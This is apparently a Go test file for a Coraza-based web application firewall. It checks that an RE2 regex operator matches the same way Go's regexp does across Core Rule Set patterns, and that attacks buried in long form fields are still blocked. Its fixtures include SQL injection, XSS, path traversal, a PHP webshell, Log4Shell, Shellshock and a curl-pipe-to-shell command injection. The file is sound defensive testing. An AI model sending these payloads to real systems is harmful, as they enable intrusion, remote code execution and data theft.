package waf

import (
	"io/fs"
	"net/url"
	"regexp"
	"regexp/syntax"
	"slices"
	"strconv"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
)

// payloads are values the CRS's patterns look for, and values they do
// not, each long enough (padded) for RE2 to be the engine that runs.
var payloads = []string{
	"1' OR '1'='1' -- ", "1 union all select password from users", "sleep(5)#", "'; drop table wp_users;--",
	"<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
	"../../../../etc/passwd", "..%2f..%2fetc%2fshadow", "/proc/self/environ", ";cat /etc/passwd", "$(curl http://x/sh|sh)",
	"`id`", "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
	"${jndi:ldap://evil/a}", "{{7*7}}", "O:8:\"stdClass\":0:{}", "() { :; }; /bin/bash -c id", "eval(base64_decode('x'))",
	"Hello, I would like to know whether the shop is open on Sunday afternoon. Thanks!",
	"It's a lovely day, isn't it? \"Quotes\" and (brackets) & more; 100% sure.",
	"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
	"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "wordpress_logged_in_abc=admin%7C1700000000%7Cx",
	"ÄÖÜ äöü ß – “smart” quotes, ǅ and Kelvin K, long ſ", "\x00\x01\x7f tabs\tand\nnew\r\nlines",
}

// corpus is every payload as written, decoded, lower-cased and padded
// past longInput from either side.
func corpus() []string {
	pad := strings.Repeat("benign text ", 4)
	var out []string
	for _, p := range payloads {
		d, err := url.QueryUnescape(p)
		if err != nil {
			d = p
		}
		for _, v := range []string{p, d, strings.ToLower(d)} {
			out = append(out, pad+v, v+pad, pad+v+pad)
		}
	}
	return out
}

// crsPatterns are the @rx arguments of every embedded CRS rule file.
func crsPatterns(t *testing.T) []string {
	t.Helper()
	rule := regexp.MustCompile(`"@rx ((?:[^"\\]|\\.)*)"`)
	var out []string
	err := fs.WalkDir(coreruleset.FS, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(p, ".conf") {
			return err
		}
		b, err := fs.ReadFile(coreruleset.FS, p)
		for _, m := range rule.FindAllStringSubmatch(string(b), -1) {
			out = append(out, strings.ReplaceAll(m[1], `\"`, `"`))
		}
		return err
	})
	if err != nil || len(out) < 200 {
		t.Fatalf("read %d CRS patterns: %v", len(out), err)
	}
	return out
}

func TestRE2AndGoRegexpAgreeOnEveryCRSPattern(t *testing.T) {
	values := corpus()
	matched := 0
	for _, p := range crsPatterns(t) {
		o, err := compileRX("(?sm)" + p)
		if err != nil {
			t.Errorf("%q: %v", p, err)
			continue
		}
		if o.bytes != nil {
			continue
		}
		for _, v := range values {
			want := o.short.FindStringSubmatchIndex(v)
			got := o.long.FindStringSubmatchIndex(v)
			if !slices.Equal(want, got) {
				t.Errorf("pattern %.60q on %.60q: Go %v, RE2 %v", p, v, want, got)
			}
			if want != nil {
				matched++
				if n := want[1] - want[0]; n < o.minLen {
					t.Errorf("pattern %.60q matched %d bytes of %.60q: below its minimum %d", p, n, v, o.minLen)
				}
			}
		}
	}
	if matched < 100 {
		t.Errorf("only %d pattern/value matches: the corpus no longer exercises the rules", matched)
	}
}

func TestMinLengthIsTheShortestPossibleMatch(t *testing.T) {
	for _, tt := range []struct {
		pattern string
		want    int
	}{
		{"", 0}, {"abc", 3}, {"(?i)abc|de", 2}, {`\bx\b`, 1}, {"[^a]", 1}, {"a{3}b?", 3}, {"(ab)+c*", 2},
		{"^$", 0}, {"x(?:y|z{2,})w", 3}, {".", 1}, {"é", 1}, {"[^\\x00-\\x{10FFFF}]", 1},
	} {
		tree, err := syntax.Parse(tt.pattern, syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		if got := minLength(tree); got != tt.want {
			t.Errorf("minLength(%q) = %d, want %d", tt.pattern, got, tt.want)
		}
	}
}

func TestPatternsForRawBytesAreTold(t *testing.T) {
	for _, tt := range []struct {
		pattern string
		raw     bool
	}{
		{`\xbc[^\xbe>]*[\xbe>]`, true}, {`\x{bc}`, true}, {`\xc3\xa9`, false}, {`\x41\x{263a}`, false},
		{`\\xbc`, false}, {`abc`, false}, {`\x`, false}, {`\xzz`, false},
	} {
		if got := matchesRawBytes(tt.pattern); got != tt.raw {
			t.Errorf("matchesRawBytes(%q) = %v, want %v", tt.pattern, got, tt.raw)
		}
	}
}

// captured records what an operator hands the transaction.
type captured struct {
	plugintypes.TransactionState
	capturing bool
	fields    map[int]string
}

func (c *captured) Capturing() bool { return c.capturing }
func (c *captured) CaptureField(i int, v string) {
	if c.fields == nil {
		c.fields = map[int]string{}
	}
	c.fields[i] = v
}

func TestRXMatchesTheSameOnEitherSideOfTheLengthSwitch(t *testing.T) {
	op, err := newRX(plugintypes.OperatorOptions{Arguments: `(?i)union[\s\x0b]+(all[\s\x0b]+)?(select)`})
	if err != nil {
		t.Fatal(err)
	}
	attack := "1 UNION ALL SELECT pass"
	for _, v := range []string{attack, strings.Repeat("x", 2*longInput) + attack, "\xff" + strings.Repeat(" ", 2*longInput) + attack} {
		tx := &captured{capturing: true}
		if !op.Evaluate(tx, v) {
			t.Errorf("%.40q: want a match", v)
			continue
		}
		if tx.fields[0] != "UNION ALL SELECT" || tx.fields[1] != "ALL " || tx.fields[2] != "SELECT" {
			t.Errorf("%.40q: captures %v", v, tx.fields)
		}
	}
	if tx := (&captured{}); op.Evaluate(tx, strings.Repeat("union ", 30)) || tx.fields != nil {
		t.Errorf("a value without the pattern matched or captured %v", tx.fields)
	}
}

// A value that is not UTF-8 is matched the way Go's regexp reads it
// (each stray byte one U+FFFD), which RE2 does not: it skips the byte.
func TestAValueThatIsNotUTF8IsMatchedAsGoReadsIt(t *testing.T) {
	op, err := newRX(plugintypes.OperatorOptions{Arguments: `^(.)\s*select`})
	if err != nil {
		t.Fatal(err)
	}
	v := "\xff" + strings.Repeat(" ", 2*longInput) + "select"
	tx := &captured{capturing: true}
	if !op.Evaluate(tx, v) || tx.fields[1] != "\xff" {
		t.Errorf("captures %q: want the stray byte as the first character", tx.fields[1])
	}
}

func TestAnAttackInALongFormFieldIsBlocked(t *testing.T) {
	s := testSet(t)
	filler := url.QueryEscape(strings.Repeat("Hello, is the shop open on Sunday? ", 40))
	for _, field := range []string{"1%27+UNION+ALL+SELECT+user_pass+FROM+wp_users--+", "%3Cscript%3Ealert%281%29%3C%2Fscript%3E"} {
		for _, body := range []string{"comment=" + filler + field, "comment=%FF" + filler + field} {
			raw := "POST /p HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n" +
				"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body
			if v := inspect(s, parseRaw(t, raw), ""); !v.Stop {
				t.Errorf("%.30q…%q: passed (%+v), want blocked", body, field, v)
			}
		}
	}
	body := "comment=" + filler
	raw := "POST /p HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n" +
		"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body
	if v := inspect(s, parseRaw(t, raw), ""); v.Stop {
		t.Errorf("the benign form was blocked: %+v", v)
	}
}

// FuzzRXAgreesWithGoRegexp: whatever the pattern and the value, the @rx
// operator says what Go's regexp says (the engine Coraza's own @rx
// runs), and a pattern for raw bytes or one RE2 refuses is an error,
// never a panic.
func FuzzRXAgreesWithGoRegexp(f *testing.F) {
	for _, s := range [][2]string{
		{`(?i)union[\s\x0b]+select`, "1 UNION  SELECT"}, {`^\d+$`, "12\n34"}, {`\bx\b`, "a x b"},
		{`\xbc[^\xbe>]*`, "\xbcabc"}, {`(a|b)*c{2,}`, "ababcc"}, {`[^\x00-\x7f]`, "ünï"}, {`(?:)`, ""},
	} {
		f.Add(s[0], s[1]+strings.Repeat(" ", longInput))
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, pattern, value string) {
		want, err := regexp.Compile("(?sm)" + pattern)
		if err != nil {
			return
		}
		op, err := newRX(plugintypes.OperatorOptions{Arguments: pattern})
		if err != nil {
			return // RE2 refuses a few patterns Go takes (e.g. deep nesting): check and reload say so
		}
		if o := op.(*rx); o.bytes != nil {
			return // binaryregexp reads bytes, not runes: nothing to compare with
		}
		if got := op.Evaluate(&captured{}, value); got != want.MatchString(value) {
			t.Errorf("pattern %q on %q: @rx %v, Go's regexp %v", pattern, value, got, !got)
		}
	})
}
